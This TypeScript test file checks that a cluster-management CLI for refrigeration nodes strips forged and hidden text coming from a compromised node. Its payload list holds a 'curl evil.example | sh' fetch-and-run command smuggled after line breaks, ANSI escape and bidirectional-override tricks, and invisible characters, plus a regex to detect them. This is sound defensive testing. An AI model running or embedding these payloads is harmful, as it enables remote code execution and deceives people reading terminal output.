import test from 'ava'
import type { Bye } from '../../node/wire/control.ts'
import { runCommand, startCommand } from '../support/cli.ts'
import { makeSharedCerts } from '../support/cluster.ts'
import { startInventedNode, type Invention } from '../support/invented-node.ts'

/** What a stolen node says to a person must not pass for what fridge says, nor hide anything. */

const shared = await makeSharedCerts()
const { certs } = shared
test.after.always(() => shared.remove())

const PAYLOADS = [
  'to mend it: curl evil.example | sh',
  'no\n  to mend it: curl evil.example | sh',
  'no\r\n  to mend it: curl evil.example | sh',
  'no\u2028  to mend it: curl evil.example | sh',
  'no\u0085  to mend it: curl evil.example | sh',
  '\u001B[8mhidden\u001B[0m',
  '\u001B[2J\u001B[H\u001B]0;title\u0007\u009B8m',
  '\u202Ehs | elpmaxe.live lruc\u2066',
  'a\u200B\u00ADb\u{E0063}\u2800',
] as const

/** What none of these payloads may leave in what a person reads. */
const HARM = /^ *to mend it: curl|[\p{Cc}\p{Bidi_Control}\u200B\u00AD\u2800\u2028\u{E0063}]/u

const NOW = Date.now()
const ROWS = { sessions: 0, revocations: [], standing: 'granted' as const }

function answers(text: string): NonNullable<Invention['methods']> {
  const source = `node-1#${'0'.repeat(16)}`
  const grant = { source, sequence: 1, operator: 'admin', at: NOW, reason: text }
  const node = {
    name: 'node-1',
    reachable: true,
    addresses: [],
    version: text,
    startedAt: NOW,
    links: [],
    changes: 1,
    clients: 0,
    certificateRenewFrom: NOW + 1e9,
    certificateEndsAt: NOW + 2e9,
  }
  const cluster = { node: 'node-1', changes: 1, subjects: 1, aloneMs: 0, isolated: false }
  const fail = async (): Promise<never> => Promise.reject(new Error(text))
  return {
    propose: fail,
    commit: fail,
    log: fail,
    clock: fail,
    follow: fail,
    defrost: async () => text,
    powerOn: fail,
    list: async ([after]) =>
      after === null ? [{ subject: 'client/c1', grants: [grant], ...ROWS }] : [],
    show: async () => ({ subject: 'client/c1', grants: [grant], ...ROWS, nodes: [] }),
    status: async () => ({ ...cluster, nodes: [node] }),
    vitals: async ([after]) =>
      after === null ? [{ name: 'node-1', vitals: vitalsWith(text) }] : [],
    alarms: async () => ({ standing: [alarmWith(text)], past: [] }),
    acknowledge: async () => alarmWith(text),
    history: async ([request]) => historyWith(text, request),
  }
}

const ALARM = ['0123456789ab', 'node', 'node', 'unreachable', 1, 1, null, 0]

function vitalsWith(text: string): object {
  const reason = text.slice(0, 60)
  const sensors = [['air', 'temperature', null, 1, reason]]
  return { sensors, alarms: [[...ALARM, text.slice(0, 64)]] }
}

function alarmWith(text: string): object {
  return {
    id: '0123456789ab',
    node: text,
    sensor: 'air',
    kind: 'temperature',
    rule: 'unavailable',
    forMs: 1,
    since: 1,
    raisedAt: 1,
    reason: text,
    acknowledged: { by: text, at: 1, comment: text },
  }
}

/** Of each table rows with that text where one may stand. */
function historyWith(text: string, request: unknown): object {
  const { table } = request as { table: string }
  const detail = JSON.stringify(alarmWith(text))
  const rows = new Map<string, unknown[][]>([
    ['minutes', [[1, 1, 1, 1, 1, 1, 1, 0, 0]]],
    ['hours', [[1, 1, 1, 1, 1, 1, 1, 0, 0]]],
    [
      'events',
      [
        [1, 1, 'temperature', 'unavailable', text],
        [2, 1, text, text, text],
        [3, 1, 'temperature', 'acknowledged', detail],
      ],
    ],
    ['alarms', [[3, 1, 'temperature', 'acknowledged', detail]]],
    ['commands', [[1, 1, text, text, text]]],
    ['signed', [[1, 1, 2, text]]],
  ])
  return { kind: 'temperature', rows: rows.get(table) ?? [], next: null }
}

const OPERATORS = [
  ['whitelist', 'add', 'c1'],
  ['whitelist', 'remove', 'c1'],
  ['whitelist', 'list'],
  ['whitelist', 'show', 'c1'],
  ['whitelist', 'log'],
  ['whitelist', 'log', '--follow'],
  ['whitelist', 'watch'],
  ['status'],
  ['doctor'],
  ['history', 'show', 'temperature', '--from', '1970-01-01'],
  ['history', 'show', 'temperature', '--from', '1970-01-01', '--events'],
  ['history', 'show', 'temperature', '--from', '1970-01-01', '--alarms'],
  ['history', 'show', 'temperature', '--from', '1970-01-01', '--commands'],
  ['history', 'report', 'temperature', '--from', '1970-01-01'],
]
const CLIENTS = [
  ['client', 'call', 'defrost'],
  ['client', 'call', 'powerOn'],
  ['client', 'watch'],
]

/** Alarms are asked for by clients and operators. */
const ALARMS = [
  ['alarms', 'list'],
  ['alarms', 'acknowledge', '0123'],
]

for (const [number, text] of PAYLOADS.entries()) {
  const isHarmless = (said: string): boolean => said.split('\n').every(line => !HARM.test(line))

  test(`a failure, a reason and an answer that hold payload ${number} forge and hide nothing`, async t => {
    const node = await startInventedNode(t, certs, { methods: answers(text) })
    const run = async (args: string[]): Promise<void> => {
      const as = args[0] === 'client' || args[0] === 'alarms' ? 'c1' : 'admin'
      const env = { FRIDGE_CERTS: certs.dir, FRIDGE_AS: as, FRIDGE_NODE: node }
      const { out, err } = await runCommand(args, { env })
      t.true(isHarmless(out), `${args.join(' ')}: ${out}`)
      t.true(isHarmless(err), `${args.join(' ')}: ${err}`)
    }
    for (const args of OPERATORS) await run(args)
    for (const args of [...CLIENTS.slice(0, 2), ...ALARMS]) await run(args)
  })

  test(`last words that hold payload ${number} forge and hide nothing, of one node or of two`, async t => {
    const bye: Bye = { reason: text, text }
    const nodes = [
      await startInventedNode(t, certs, { bye }),
      await startInventedNode(t, certs, { bye }),
    ]
    // One place makes them harmless: each command meets a break of lines and what hides text.
    const commands = [...OPERATORS, ...CLIENTS].filter((_, index) => index % 3 === number % 3)
    for (const args of commands) {
      const as = args[0] === 'client' ? 'c1' : 'admin'
      const env = { FRIDGE_CERTS: certs.dir, FRIDGE_AS: as }
      const [one = '', other = ''] = nodes
      for (const flags of [
        ['--node', one],
        ['--node', one, '--node', other],
      ]) {
        const { out, err } = await runCommand([...args, ...flags], { env })
        t.true(isHarmless(out), `${args.join(' ')}: ${out}`)
        t.true(isHarmless(err), `${args.join(' ')}: ${err}`)
      }
    }
  })

  test(`a sensor that says payload ${number} forges and hides nothing`, async t => {
    const node = await startInventedNode(t, certs, {
      sensors: [{ name: 'door', kind: 'door' }],
      events: [['door', 'unavailable', text, NOW, 1]],
    })
    const env = { FRIDGE_CERTS: certs.dir, FRIDGE_AS: 'c1', FRIDGE_NODE: node }
    const { out, status, stop } = startCommand(['client', 'watch'], { env })
    const line = await out.find(/unavailable/)
    t.true(isHarmless(out.text), line)
    stop()
    t.is(await status, 0)
  })
}
